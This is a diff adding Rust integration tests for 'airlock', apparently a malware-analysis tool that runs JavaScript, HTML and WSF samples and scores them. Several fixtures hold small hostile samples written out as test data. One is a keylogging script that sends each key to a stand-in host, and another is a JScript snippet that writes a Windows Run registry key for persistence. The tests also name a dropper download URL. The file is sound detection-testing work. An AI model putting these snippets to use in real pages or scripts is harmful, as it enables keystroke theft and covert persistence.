@@ -1,0 +1,251 @@
+//! `airlock analyze`, `airlock verdict` and `airlock eval` as a user runs them. Uses the
+//! installed JavaScript guest (the README's test command installs it) and the corpus copy in
+//! `tests/corpus/js`.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+use serde_json::Value;
+
+fn airlock(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_airlock"))
+        .args(args)
+        .output()
+        .expect("spawn airlock")
+}
+
+fn code(o: &Output) -> i32 {
+    o.status.code().expect("exit code")
+}
+
+fn out(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn corpus() -> PathBuf {
+    PathBuf::from(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../tests/corpus/js"
+    ))
+}
+
+fn sample(name: &str) -> String {
+    corpus().join("samples").join(name).display().to_string()
+}
+
+fn reports(o: &Output) -> Vec<Value> {
+    out(o)
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("one JSON report per line"))
+        .collect()
+}
+
+#[test]
+fn a_dropper_is_malicious_with_reasons_and_indicators() {
+    let o = airlock(&["analyze", &sample("mal-wsh-dropper-01.js")]);
+    assert_eq!(code(&o), 30, "{}", out(&o));
+    let text = out(&o);
+    assert!(text.contains(": malicious "), "{text}");
+    assert!(text.contains("[javascript, wsh,"), "{text}");
+    assert!(text.contains("process.runs-written-file"), "{text}");
+    assert!(
+        text.contains("http://192.0.2.15/files/invoice_7731.exe"),
+        "{text}"
+    );
+}
+
+#[test]
+fn benign_samples_exit_0_and_the_worst_verdict_sets_the_exit_code() {
+    let benign = sample("ben-telemetry-01.js");
+    let o = airlock(&["analyze", &benign, &sample("ben-jscript-01.js")]);
+    assert_eq!(code(&o), 0, "{}", out(&o));
+    let dir = tempfile::tempdir().unwrap();
+    let elf = dir.path().join("tool");
+    std::fs::write(&elf, b"\x7fELF\x02\x01\x01\0\0\0\0\0").unwrap();
+    let o = airlock(&["analyze", &benign, elf.to_str().unwrap()]);
+    assert_eq!(code(&o), 10, "not analysed beats benign: {}", out(&o));
+    assert!(out(&o).contains("not analysed by this tier: a native executable"));
+    let o = airlock(&[
+        "analyze",
+        elf.to_str().unwrap(),
+        &sample("mal-web-skimmer-03.js"),
+    ]);
+    assert_eq!(code(&o), 30);
+}
+
+#[test]
+fn a_saved_report_gives_the_same_verdict_again() {
+    let dir = tempfile::tempdir().unwrap();
+    for s in [
+        "mal-web-skimmer-07.js",
+        "mal-npm-supply-chain-05.js",
+        "ben-payment-01.js",
+    ] {
+        let o = airlock(&["analyze", "--json", &sample(s)]);
+        let r = &reports(&o)[0];
+        let schema: Value = serde_json::from_str(
+            &std::fs::read_to_string(concat!(
+                env!("CARGO_MANIFEST_DIR"),
+                "/../../docs/report.schema.json"
+            ))
+            .unwrap(),
+        )
+        .unwrap();
+        let validator = jsonschema::validator_for(&schema).unwrap();
+        let errors: Vec<String> = validator.iter_errors(r).map(|e| e.to_string()).collect();
+        assert!(errors.is_empty(), "{s}: {errors:#?}");
+        let saved = dir.path().join("r.json");
+        std::fs::write(&saved, r.to_string()).unwrap();
+        let v = airlock(&["verdict", "--json", saved.to_str().unwrap()]);
+        let got: Value = serde_json::from_str(&out(&v)).unwrap();
+        assert_eq!(got["verdict"], r["verdict"], "{s}");
+        assert_eq!(got["same_as_stored"], true, "{s}");
+        assert_eq!(code(&v), code(&o), "{s}");
+        // Every point is explained: the reasons add up to the score (below the cap).
+        let sum: u64 = r["verdict"]["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|x| x["points"].as_u64().unwrap())
+            .sum();
+        assert_eq!(sum.min(100), r["verdict"]["score"].as_u64().unwrap(), "{s}");
+        assert!(
+            r["verdict"]["reasons"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|x| !x["evidence"].as_array().unwrap().is_empty())
+        );
+    }
+    // An obfuscated Node script is run again where it belongs, and says so.
+    let o = airlock(&["analyze", "--json", &sample("mal-npm-supply-chain-05.js")]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["analysis"]["environment"], "node");
+    assert!(
+        r["analysis"]["notes"][0]
+            .as_str()
+            .unwrap()
+            .contains("stopped on `require`")
+    );
+    // Not a report: a clear refusal.
+    let junk = dir.path().join("junk.json");
+    std::fs::write(&junk, "{\"a\": 1}").unwrap();
+    let v = airlock(&["verdict", junk.to_str().unwrap()]);
+    assert_eq!(code(&v), 66);
+}
+
+#[test]
+fn pages_and_script_containers_run_their_scripts() {
+    let dir = tempfile::tempdir().unwrap();
+    let page = dir.path().join("landing");
+    std::fs::write(
+        &page,
+        "<!doctype html><html><head><script src=\"https://cdn.example.com/lib.js\"></script></head>\n\
+         <body><script>document.addEventListener('keydown', function (e) {\n\
+         new Image().src = 'https://k.example/log?k=' + e.key; });</script></body></html>",
+    )
+    .unwrap();
+    let o = airlock(&["analyze", "--json", page.to_str().unwrap()]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["analysis"]["file_type"], "html");
+    assert_eq!(
+        r["analysis"]["linked_scripts"][0],
+        "https://cdn.example.com/lib.js"
+    );
+    let rules: Vec<&str> = r["verdict"]["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|x| x["rule"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"exfil.after-user-input"), "{rules:?}");
+    let wsf = dir.path().join("job.wsf");
+    std::fs::write(
+        &wsf,
+        "<job><script language=\"JScript\"><![CDATA[\n\
+         var sh = new ActiveXObject('WScript.Shell');\n\
+         sh.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u', 'calc.exe');\n\
+         ]]></script></job>",
+    )
+    .unwrap();
+    let o = airlock(&["analyze", "--json", wsf.to_str().unwrap()]);
+    let r = &reports(&o)[0];
+    assert_eq!(r["analysis"]["file_type"], "wsf");
+    assert_eq!(r["analysis"]["environment"], "wsh");
+    assert_eq!(r["verdict"]["verdict"], "malicious", "{}", r["verdict"]);
+    assert_eq!(code(&o), 30);
+}
+
+#[test]
+fn bad_inputs_are_reported_and_never_stop_the_others() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    std::fs::write(d.join("empty.js"), b"").unwrap();
+    std::fs::write(
+        d.join("garbage.js"),
+        (0..4096u32)
+            .map(|i| (i * 7919 % 256) as u8)
+            .collect::<Vec<_>>(),
+    )
+    .unwrap();
+    let sparse = std::fs::File::create(d.join("huge.js")).unwrap();
+    sparse.set_len(1 << 30).unwrap(); // 1 GB, sparse: refused from its size, never read
+    drop(sparse);
+    std::fs::write(d.join("loop.js"), b"for (;;) {}").unwrap();
+    std::fs::write(d.join("ok.js"), b"console.log(1)").unwrap();
+    std::os::unix::fs::symlink(d, d.join("loop")).unwrap(); // a symlink loop
+    std::fs::create_dir(d.join("many")).unwrap();
+    for i in 0..300 {
+        std::fs::write(
+            d.join("many").join(format!("{i}.txt")),
+            format!("var x{i} = {i};"),
+        )
+        .unwrap();
+    }
+    let started = std::time::Instant::now();
+    let o = airlock(&[
+        "analyze",
+        "--json",
+        "--timeout",
+        "500ms",
+        d.to_str().unwrap(),
+    ]);
+    assert!(started.elapsed().as_secs() < 60);
+    let rs = reports(&o);
+    assert_eq!(rs.len(), 305, "every file once, the symlink not followed");
+    let by_name = |n: &str| {
+        rs.iter()
+            .find(|r| r["input"]["name"].as_str().unwrap().ends_with(n))
+            .unwrap_or_else(|| panic!("{n}"))
+    };
+    assert_eq!(by_name("empty.js")["verdict"]["verdict"], "not_analysed");
+    assert_eq!(by_name("garbage.js")["verdict"]["verdict"], "not_analysed");
+    let huge = by_name("huge.js")["verdict"]["not_analysed"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(huge.contains("refused without reading it"), "{huge}");
+    let looped = by_name("loop.js");
+    assert_eq!(looped["outcome"]["status"]["kind"], "timeout");
+    assert_eq!(by_name("ok.js")["verdict"]["verdict"], "benign");
+    assert_eq!(code(&o), 10);
+    // An unreadable path is a report too.
+    let o = airlock(&["analyze", d.join("nope.js").to_str().unwrap()]);
+    assert_eq!(code(&o), 10);
+    assert!(out(&o).contains("not analysed by this tier"));
+}
+
+#[test]
+fn the_labelled_corpus_meets_the_detection_targets() {
+    let o = airlock(&["eval", "--json", corpus().to_str().unwrap()]);
+    assert_eq!(code(&o), 0);
+    let f: Value = serde_json::from_str(&out(&o)).unwrap();
+    assert!(f["malicious_recall_pct"].as_f64().unwrap() >= 95.0, "{f}");
+    assert_eq!(f["false_positives"]["tricky"], 0, "{f}");
+    assert!(f["indicator_recall_pct"].as_f64().unwrap() >= 90.0, "{f}");
+    assert_eq!(f["malicious"]["files"], 32);
+    assert_eq!(f["benign_tricky"]["files"], 12);
+    assert!(Path::new(&sample("mal-wsh-dropper-01.js")).exists());
+}
